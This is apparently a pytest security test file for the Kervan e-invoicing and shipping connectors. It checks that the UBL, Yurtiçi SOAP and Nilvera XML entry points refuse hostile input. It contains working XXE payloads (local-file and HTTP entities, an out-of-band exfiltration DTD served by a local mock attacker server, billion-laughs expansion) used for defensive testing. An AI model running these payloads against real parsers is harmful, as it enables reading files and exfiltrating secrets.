"""Issue 17, finding 4: hostile XML at every entry point gives a report or a clear error, reads
no local file and calls nowhere.

Each payload is aimed at a real document (a UBL-TR invoice built by kervan-ubltr, a Yurtiçi SOAP
envelope) and at every place Kervan reads XML from outside: ``kervan_ubltr.validate`` and
``parse``, the Yurtiçi and Nilvera connectors' readers of what their remote answers, and the
XML endpoints of both sandboxes. A local HTTP server stands where an attacker's would (it
serves the classic out-of-band DTD), and a canary file stands for a secret on disk: the server
must receive nothing, and the canary's content must appear nowhere. (MNG's API is JSON only;
Trendyol's too: they have no XML entry point.)
"""

from __future__ import annotations

import re
import secrets
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import kervan_ubltr
import pytest
from kervan.errors import InvalidInputError, InvalidResponseError, RemoteError
from kervan.xml import DEFAULT_MAX_XML_BYTES, UntrustedXmlError, parse_untrusted
from kervan_nilvera import mapping as nilvera_mapping
from kervan_nilvera.sandbox import DEMO_API_KEY, NilveraSandbox
from kervan_sdk.testing import make_invoice, make_seller
from kervan_yurtici.client import SHIP_NS, SOAP_NS, YurticiClient, envelope
from kervan_yurtici.sandbox import PASSWORD, USERNAME, YurticiSandbox

NILVERA_VKN = "4540536920"  # the sandbox account's own company


# The attacker's server runs in its own process: Saxon fetches while holding the GIL, so a
# server thread in this process could never answer, and a regression would hang, not fail.
SERVER = """
import http.server, sys
log, canary = sys.argv[1], sys.argv[2]
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(log, "a") as f:
            f.write(self.path + "\\n")
        url = "http://127.0.0.1:%d" % self.server.server_address[1]
        # the out-of-band exfiltration DTD: read the canary, send it back in a URL
        body = (
            '<!ENTITY % file SYSTEM "file://' + canary + '">'
            '<!ENTITY % eval "<!ENTITY &#x25; leak SYSTEM \\'' + url + '/leak?d=%file;\\'>">'
            "%eval;%leak;"
        ).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
print(server.server_address[1], flush=True)
server.serve_forever()
"""


class Attacker:
    """The attacker's HTTP server (it logs every request) and a canary file on our disk."""

    def __init__(self, folder: Path) -> None:
        self.log = folder / "requests.log"
        self.log.touch()
        self.canary = folder / "canary.txt"
        self.secret = f"CANARY-{secrets.token_hex(8)}"
        self.canary.write_text(self.secret)  # no newline: a URL could carry it whole
        self.process = subprocess.Popen(
            [sys.executable, "-c", SERVER, str(self.log), str(self.canary)],
            stdout=subprocess.PIPE,
            text=True,
        )
        assert self.process.stdout is not None
        self.url = f"http://127.0.0.1:{int(self.process.stdout.readline())}"
        self.seen = 0

    @property
    def hits(self) -> list[str]:
        """Requests the server received since the current test began."""
        return self.log.read_text().splitlines()[self.seen :]

    def arm(self) -> None:
        self.seen = len(self.log.read_text().splitlines())

    def close(self) -> None:
        self.process.kill()
        self.process.wait()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacker]:
    found = Attacker(tmp_path_factory.mktemp("attacker"))
    yield found
    found.close()


@pytest.fixture
def attacker(server: Attacker) -> Attacker:
    server.arm()
    return server


@pytest.fixture(scope="module")
def nilvera() -> NilveraSandbox:
    return NilveraSandbox()


# a payload: (attacker) -> (the DOCTYPE to put before the root, the text to put inside it)
Payload = Callable[[Attacker], tuple[str, str]]
LAUGHS = "".join(
    f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' if i else '<!ENTITY l0 "lol">' for i in range(10)
)
PAYLOADS: dict[str, Payload] = {
    "xxe-file": lambda a: (f'<!DOCTYPE d [<!ENTITY e SYSTEM "file://{a.canary}">]>', "&e;"),
    "xxe-http": lambda a: (f'<!DOCTYPE d [<!ENTITY e SYSTEM "{a.url}/general">]>', "&e;"),
    "oob-parameter-entity": lambda a: (
        f'<!DOCTYPE d [<!ENTITY % remote SYSTEM "{a.url}/evil.dtd"> %remote;]>',
        "",
    ),
    "external-dtd": lambda a: (f'<!DOCTYPE d SYSTEM "{a.url}/external.dtd">', ""),
    "billion-laughs": lambda a: (f"<!DOCTYPE d [{LAUGHS}]>", "&l9;"),
    "undefined-entity": lambda a: ("", "&nope;"),
}


def hostile(document: bytes, marker: bytes, payload: Payload, attacker: Attacker) -> bytes:
    """``document`` with the payload's DOCTYPE after the XML declaration and its entity
    reference right after ``marker`` (the start of an element that carries text)."""
    doctype, reference = payload(attacker)
    head, sep, rest = document.partition(b"?>")
    assert sep and marker in rest
    rest = rest.replace(marker, marker + reference.encode(), 1)
    return head + sep + b"\n" + doctype.encode() + rest


def ubl_invoice(attacker: Attacker, payload: Payload) -> bytes:
    seller = make_seller().model_copy(update={"tax_id": NILVERA_VKN})
    # the sandbox account's own company and series: Nilvera's sandbox would take it this far
    xml = kervan_ubltr.build_invoice(make_invoice(number="KRA2025000000001", seller=seller))
    return hostile(xml, b"<cbc:UBLVersionID>", payload, attacker)


def soap_answer(attacker: Attacker, payload: Payload) -> bytes:
    answer = (
        f'<?xml version="1.0" encoding="UTF-8"?><S:Envelope xmlns:S="{SOAP_NS}"><S:Body>'
        f'<ns2:queryShipmentResponse xmlns:ns2="{SHIP_NS}"><ShippingDeliveryVO>'
        "<outFlag>0</outFlag><outResult>Başarılı</outResult><count>0</count>"
        "</ShippingDeliveryVO></ns2:queryShipmentResponse></S:Body></S:Envelope>"
    ).encode()
    return hostile(answer, b"<outResult>", payload, attacker)


def nothing_leaked(attacker: Attacker, *outputs: object) -> None:
    assert attacker.hits == [], f"the attacker's server was called: {attacker.hits}"
    for output in outputs:
        assert attacker.secret not in str(output), "the canary file's content came out"


params = pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))


@params
def test_the_hardened_parser_refuses_it(attacker: Attacker, payload: Payload) -> None:
    with pytest.raises(UntrustedXmlError) as caught:
        parse_untrusted(ubl_invoice(attacker, payload))
    assert caught.value.reason in {"dtd", "external", "malformed"}
    nothing_leaked(attacker, caught.value)


@params
def test_validate_gives_a_report_and_fetches_nothing(attacker: Attacker, payload: Payload) -> None:
    report = kervan_ubltr.validate(ubl_invoice(attacker, payload))
    assert not report.ok
    assert report.errors[0].rule.startswith("xml-"), report.summary()
    assert report.errors[0].source == "xml"
    nothing_leaked(attacker, report.summary(), report.errors, report.warnings)


@params
def test_parse_raises_a_clear_input_error(attacker: Attacker, payload: Payload) -> None:
    with pytest.raises(InvalidInputError, match="UBL document") as caught:
        kervan_ubltr.parse(ubl_invoice(attacker, payload))
    nothing_leaked(attacker, caught.value, caught.value.to_dict())


@params
async def test_yurtici_client_refuses_a_hostile_answer(
    attacker: Attacker, payload: Payload
) -> None:
    body = soap_answer(attacker, payload)
    transport = httpx.MockTransport(lambda request: httpx.Response(200, content=body))
    client = YurticiClient(
        "https://ws.example/KOPS", username="u", password="p", transport=transport
    )
    async with client:
        with pytest.raises(InvalidResponseError, match="yurtici's answer") as caught:
            await client.query_shipment(["K1"])
    nothing_leaked(attacker, caught.value, caught.value.to_dict())


@params
async def test_yurtici_client_reads_no_hostile_fault(attacker: Attacker, payload: Payload) -> None:
    fault = (
        f'<?xml version="1.0"?><soap:Envelope xmlns:soap="{SOAP_NS}"><soap:Body><soap:Fault>'
        "<faultcode>soap:Server</faultcode><faultstring>boom</faultstring>"
        "</soap:Fault></soap:Body></soap:Envelope>"
    ).encode()
    body = hostile(fault, b"<faultstring>", payload, attacker)
    transport = httpx.MockTransport(lambda request: httpx.Response(500, content=body))
    client = YurticiClient(
        "https://ws.example/KOPS", username="u", password="p", transport=transport
    )
    async with client:  # an unreadable fault is the remote failing (the body, redacted, says how)
        with pytest.raises(RemoteError) as caught:
            await client.cancel_shipment(["K1"])
    nothing_leaked(attacker, caught.value, caught.value.to_dict())


@params
async def test_yurtici_sandbox_answers_a_client_fault(attacker: Attacker, payload: Payload) -> None:
    request = envelope(
        "queryShipment",
        [("wsUserName", USERNAME), ("wsPassword", PASSWORD), ("wsLanguage", "TR")],
    )
    body = hostile(request, b"<wsLanguage>", payload, attacker)
    sandbox = YurticiSandbox()
    async with sandbox.client() as http:
        answer = await http.post(
            "/KOPSWebServices/ShippingOrderDispatcherServices",
            content=body,
            headers={"Content-Type": "text/xml"},
        )
    assert answer.status_code == 500
    assert b"soap:Client" in answer.content and b"Unmarshalling Error" in answer.content
    nothing_leaked(attacker, answer.text)


@params
def test_nilvera_connector_refuses_hostile_stored_xml(attacker: Attacker, payload: Payload) -> None:
    xml = ubl_invoice(attacker, payload)
    with pytest.raises(InvalidResponseError, match="Nilvera's stored XML") as stored:
        nilvera_mapping.issue_date_of(xml)
    with pytest.raises(InvalidInputError) as own:
        nilvera_mapping.series_of(xml)
    nothing_leaked(attacker, stored.value, own.value)


@params
async def test_nilvera_sandbox_send_xml_refuses_it(
    attacker: Attacker, nilvera: NilveraSandbox, payload: Payload
) -> None:
    sandbox = nilvera
    headers = {"Authorization": f"Bearer {DEMO_API_KEY}"}
    async with sandbox.client() as http:
        answer = await http.post(
            "/earchive/Send/Xml",
            files={"file": ("x.xml", ubl_invoice(attacker, payload), "application/xml")},
            headers=headers,
        )
    assert answer.status_code == 422, answer.text
    assert answer.json()["Errors"][0]["Code"] == 2015
    assert not sandbox.documents
    nothing_leaked(attacker, answer.text)


def test_a_document_over_the_size_limit_is_refused_unread() -> None:
    big = b"<r>" + b"x" * DEFAULT_MAX_XML_BYTES + b"</r>"
    report = kervan_ubltr.validate(big)
    assert [i.rule for i in report.errors] == ["xml-too-large"]
    with pytest.raises(UntrustedXmlError, match="over the 10,485,760-byte limit"):
        parse_untrusted(big)


def test_a_plain_document_still_reads(attacker: Attacker) -> None:
    """The control: the same invoice without a payload parses, and its re-read is exact."""
    xml = kervan_ubltr.build_invoice(make_invoice(number="KRA2025000000001"))
    parsed = kervan_ubltr.parse(xml)
    assert parsed.number == "KRA2025000000001"
    assert parse_untrusted(xml.decode("utf-8")).tag.endswith("Invoice")
    nothing_leaked(attacker)


def test_no_code_parses_xml_outside_the_hardened_parser() -> None:
    """The one place: a new XML entry point that builds its own parser fails here."""
    root = Path(__file__).resolve().parents[2]
    parsing = re.compile(
        r"etree\.(fromstring|XML|parse|iterparse|XMLParser|XMLPullParser)\(|"
        r"xml\.(etree|dom|sax)|saxonche|\.parse_xml\("
    )
    sources = [*root.glob("core/kervan/**/*.py"), *root.glob("sdk/kervan_sdk/**/*.py")]
    sources += [*root.glob("plugins/*/*/kervan_*/**/*.py"), *root.glob("demo/kervan_demo/**/*.py")]
    found = [
        f"{path.relative_to(root)}:{n}"
        for path in sources
        if path.name != "xml.py" or path.parent.name != "kervan"
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if parsing.search(line)
    ]
    assert found == [], f"parse XML with kervan.xml.parse_untrusted instead: {found}"
